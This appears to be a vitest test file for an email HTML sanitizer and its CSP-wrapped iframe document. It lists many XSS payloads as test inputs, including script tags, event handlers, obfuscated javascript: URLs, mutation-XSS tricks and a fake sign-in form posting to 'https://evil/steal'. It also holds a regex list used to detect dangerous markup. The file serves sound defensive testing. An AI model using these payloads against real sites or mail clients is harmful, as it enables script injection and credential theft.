import { describe, expect, it } from "vitest";

import { emailFrameDocument, sanitizeEmailHtml } from "./sanitize-email-html";

const blocked = { allowRemoteImages: false };
const allowed = { allowRemoteImages: true };
const clean = (html: string, options = blocked) => sanitizeEmailHtml(html, options).html;

// Whatever the input, none of these may survive into the iframe.
const FORBIDDEN = [
  /<script/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<meta/i,
  /<base/i,
  /<link/i,
  /<svg/i,
  /<math/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /alert\(/,
];

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  '<img src=x onerror="alert(1)">',
  "<IMG SRC=x OnErRoR=alert(1)>",
  '<body onload="alert(1)">hi</body>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "<svg><script>alert(1)</script></svg>",
  '<svg onload="alert(1)"><circle r="5"/></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil/steal"><input name="password" type="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil/x.css">',
  "<!--<script>alert(1)</script>-->",
  "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  '<div style="width: expression(alert(1))">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<select><option><img src=x onerror=alert(1)></option></select>",
  "<template><img src=x onerror=alert(1)></template>",
  '<details open ontoggle="alert(1)">x</details>',
  '<video poster="javascript:alert(1)"></video><audio src=x onerror=alert(1)>',
  '<isindex action="javascript:alert(1)">',
  '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
  "<<script>script>alert(1)<</script>/script>",
  '<style id=a>@import "javascript:alert(1)";</style>',
  "<style class=x>p{background:url(javascript:alert(1))}</style>",
  "<STYLE title=t>p{width:expression(alert(1))}</STYLE>",
  "<style media=all>p{color:red}</style><img src=x onerror=alert(1)></style>",
];

describe("sanitizeEmailHtml against hostile input", () => {
  it.each(HOSTILE)("neutralises %s", (sample) => {
    for (const options of [blocked, allowed]) {
      const out = clean(sample, options);
      for (const pattern of FORBIDDEN) expect(out, `${pattern} in ${out}`).not.toMatch(pattern);
    }
  });

  it("keeps readable text around removed markup", () => {
    expect(clean("<p>Hello <script>steal()</script><b>world</b></p>")).toBe("<p>Hello <b>world</b></p>");
    expect(clean('<form><button onclick="x()">Pay now</button></form>')).toBe("Pay now");
  });

  it("drops comments, including conditional comments that hide markup", () => {
    expect(clean('a<!-- <img src="http://t.example/p.gif"> -->b<!--[if mso]><b>mso</b><![endif]-->c')).toBe("abc");
  });

  it("drops the head's title but keeps its styles", () => {
    expect(clean("<html><head><title>Newsletter</title><style>p{color:red}</style></head><body>Hi</body></html>")).toBe(
      "<style>p{color:red}</style><div>Hi</div>",
    );
  });
});

// Style elements in every spelling the parser accepts: each must go through the CSS filter.
const REMOTE_CSS = ".x{background:url(https://t.example/a.png)}";
const STYLE_VARIANTS = [
  `<style id=a>${REMOTE_CSS}</style>`,
  `<style class=x>${REMOTE_CSS}</style>`,
  `<style title=t>${REMOTE_CSS}</style>`,
  `<style media="screen and (min-width:0)">${REMOTE_CSS}</style>`,
  `<style type="text/css" media=all id=a>${REMOTE_CSS}</style>`,
  `<STYLE>${REMOTE_CSS}</STYLE>`,
  `<StYlE ID=a>${REMOTE_CSS}</sTyLe>`,
  `<style\n>${REMOTE_CSS}</style\n>`,
  `<style\t/>${REMOTE_CSS}</style>`,
  `<div><table><tr><td><p><style id=a>${REMOTE_CSS}</style></p></td></tr></table></div>`,
  `<html><head><style id=a>${REMOTE_CSS}</style></head><body>x</body></html>`,
  `<style id=a>${REMOTE_CSS}`,
];

describe("sanitizeEmailHtml <style> elements, whatever their attributes or spelling", () => {
  it.each(STYLE_VARIANTS)("filters %j and blocks its remote image until allowed", (sample) => {
    const withheld = sanitizeEmailHtml(sample, blocked);
    expect(withheld.blockedRemoteImages).toBe(1);
    expect(withheld.html).not.toContain("t.example");
    expect(withheld.html).toContain("<style>.x{background:none}</style>");

    const shown = sanitizeEmailHtml(sample, allowed);
    expect(shown.blockedRemoteImages).toBe(0);
    expect(shown.html).toContain(`<style>${REMOTE_CSS}</style>`);
    // No attribute survives on a style element.
    expect(shown.html).not.toMatch(/<style\s/i);
  });

  it.each([
    "<style id=a>@import url(https://t.example/x.css);p{color:red}</style>",
    "<style media=all>@import 'https://t.example/x.css';p{color:red}</style>",
  ])("never keeps @import in %j", (sample) => {
    for (const options of [blocked, allowed]) {
      const { html } = sanitizeEmailHtml(sample, options);
      expect(html).not.toMatch(/@import|t\.example/);
      expect(html).toContain("p{color:red}");
    }
    expect(
      sanitizeEmailHtml(sample.replace("'https://t.example/x.css'", "url('https://t.example/x.css')"), blocked).blockedRemoteImages,
    ).toBe(1);
  });

  it("keeps every style element, in order, ahead of the body", () => {
    expect(clean("<p>a</p><style id=one>p{color:red}</style><p>b</p><style class=two>p{color:blue}</style>")).toBe(
      "<style>p{color:red}</style><style>p{color:blue}</style><p>a</p><p>b</p>",
    );
  });
});

describe("sanitizeEmailHtml formatting", () => {
  it("keeps the layout markup emails rely on", () => {
    const html =
      '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff" style="border-collapse:collapse">' +
      '<tr><td valign="top" colspan="2" class="hero" style="padding:8px;color:#333"><font face="Arial" size="2" color="#111">Hi</font></td></tr></table>';
    expect(clean(html)).toBe(html);
  });

  it("opens links in a new tab without an opener or referrer", () => {
    expect(clean('<a href="https://example.com/x?a=1&amp;b=2" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://example.com/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(clean('<a href="mailto:bob@example.com">mail</a>')).toContain('href="mailto:bob@example.com"');
  });

  it.each([
    ["an absolute path", "/inbox"],
    ["a relative path", "foo"],
    ["a parent path", "../x"],
    ["a query", "?a"],
    ["a fragment", "#x"],
    ["a scheme-relative URL", "//evil.example"],
    ["a scheme-relative URL after spaces and a tab", " \t//evil.example"],
    ["a scheme-relative URL with backslashes", "\\\\evil.example"],
    ["a slash and a backslash", "/\\evil.example"],
    ["https without slashes (relative on an https app)", "https:evil.example"],
    ["http with one slash", "http:/evil.example"],
    ["an empty target", ""],
  ])("removes a link target that is %s, keeping the text", (_, href) => {
    expect(clean(`<a href="${href}">Open</a>`), href).toBe('<a target="_blank" rel="noopener noreferrer">Open</a>');
  });

  it.each(["https://example.com/a?b=1", "HTTP://example.com/", "mailto:bob@example.com", "tel:+15551234567"])(
    "keeps the link target %s",
    (href) => {
      expect(clean(`<a href="${href}">Open</a>`, allowed)).toBe(`<a href="${href}" target="_blank" rel="noopener noreferrer">Open</a>`);
    },
  );

  it("keeps a direction and language set only on <html> on a wrapper, and nothing else of it", () => {
    expect(clean('<html dir="rtl" lang="he" xmlns="http://www.w3.org/1999/xhtml" onload="x()"><body>שלום</body></html>')).toBe(
      '<div dir="rtl" lang="he"><div>שלום</div></div>',
    );
  });

  it("keeps a body's background colour on a wrapper", () => {
    expect(clean('<body bgcolor="#eeeeee" style="margin:0">x</body>')).toBe('<div bgcolor="#eeeeee" style="margin:0">x</div>');
  });

  it("returns an empty string for empty input", () => {
    expect(sanitizeEmailHtml("", blocked)).toEqual({ html: "", blockedRemoteImages: 0 });
  });
});

describe("sanitizeEmailHtml remote images", () => {
  const newsletter =
    '<img src="https://t.example/open.gif" width="1" height="1" alt="">' +
    '<img src="http://cdn.example/hero.jpg" alt="Hero" srcset="http://cdn.example/hero2x.jpg 2x">' +
    '<img src="//cdn.example/logo.png" alt="Logo">' +
    '<table background="https://cdn.example/bg.jpg"><tr><td style="background-image:url(https://cdn.example/cell.png)">x</td></tr></table>' +
    "<style>.banner{background:url('https://cdn.example/banner.png')}</style>";

  it("removes and counts every remote reference when blocked", () => {
    const { html, blockedRemoteImages } = sanitizeEmailHtml(newsletter, blocked);
    expect(blockedRemoteImages).toBe(6);
    expect(html).not.toMatch(/https?:|\/\/cdn/);
    expect(html).toContain('<img width="1" height="1" alt="" data-remote-image="blocked" />');
    expect(html).toContain('<img alt="Hero" data-remote-image="blocked" />');
    expect(html).toContain('<td style="background-image:none">');
  });

  it("keeps them all when allowed", () => {
    const { html, blockedRemoteImages } = sanitizeEmailHtml(newsletter, allowed);
    expect(blockedRemoteImages).toBe(0);
    for (const url of [
      "https://t.example/open.gif",
      "http://cdn.example/hero.jpg",
      "http://cdn.example/hero2x.jpg 2x",
      "//cdn.example/logo.png",
      'background="https://cdn.example/bg.jpg"',
      "url(https://cdn.example/cell.png)",
      "url('https://cdn.example/banner.png')",
    ]) {
      expect(html).toContain(url);
    }
    expect(html).not.toContain("data-remote-image");
  });

  it("keeps data: and cid: images either way", () => {
    const html = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a"><img src="cid:logo@example" alt="b">';
    expect(sanitizeEmailHtml(html, blocked)).toEqual({
      html: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a" /><img src="cid:logo@example" alt="b" />',
      blockedRemoteImages: 0,
    });
  });

  it("removes image sources that would load from the app's own origin or run code", () => {
    for (const src of ["/api/messages", "messages/abc", "javascript:alert(1)", "ftp://x/y.png"]) {
      expect(sanitizeEmailHtml(`<img src="${src}" alt="x">`, allowed)).toEqual({ html: '<img alt="x" />', blockedRemoteImages: 0 });
    }
  });

  it("catches obfuscated remote sources", () => {
    for (const src of ["HTTPS://t.example/a.gif", "  https://t.example/a.gif", "ht&#x09;tp://t.example/a.gif", "\\\\t.example/a.gif"]) {
      const result = sanitizeEmailHtml(`<img src="${src}">`, blocked);
      expect(result.blockedRemoteImages, src).toBe(1);
      expect(result.html, src).not.toContain("t.example");
    }
  });

  it("does not count images inside elements that are dropped anyway", () => {
    expect(
      sanitizeEmailHtml('<video poster="https://t.example/p.png"></video><script><img src="https://t.example/x"></script>', blocked),
    ).toEqual({
      html: "",
      blockedRemoteImages: 0,
    });
  });

  it("keeps styles wrapped in HTML comments, as old mailers write them", () => {
    expect(clean("<style><!-- p{color:red} --></style>")).toBe("<style> p{color:red} </style>");
  });

  it("drops a style block that carries markup", () => {
    expect(clean("<style>p{color:red}<img src=x></style><p>x</p>")).toBe("<p>x</p>");
  });

  it("drops a style block whose escapes hide a remote fetch", () => {
    expect(clean("<style>.x{background:\\75 rl(https://t.example/a.png)}</style><p>x</p>", allowed)).toBe("<p>x</p>");
  });
});

describe("emailFrameDocument", () => {
  const csp = (doc: string) => /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(doc)?.[1] ?? "";

  it("wraps the body in a document with a strict CSP that blocks remote images", () => {
    const doc = emailFrameDocument("<p>Hi</p>", blocked);
    expect(doc.startsWith("<!doctype html>")).toBe(true);
    expect(doc).toContain('<body dir="auto"><p>Hi</p></body>');
    expect(doc).toContain('<base target="_blank">');
    const policy = csp(doc).split(/;\s*/);
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("img-src data:");
    expect(policy).toContain("style-src 'unsafe-inline'");
    expect(csp(doc)).not.toMatch(/script-src|https:|http:/);
  });

  it("allows http and https images only when asked", () => {
    const policy = csp(emailFrameDocument("", allowed)).split(/;\s*/);
    expect(policy).toContain("img-src data: https: http:");
    expect(policy).toContain("default-src 'none'");
    expect(policy.join(";")).not.toContain("script-src");
  });

  it("puts the CSP before any email content, so it applies to all of it", () => {
    const doc = emailFrameDocument('<img src="https://t.example/x.png">', allowed);
    expect(doc.indexOf("Content-Security-Policy")).toBeLessThan(doc.indexOf("<body"));
  });
});
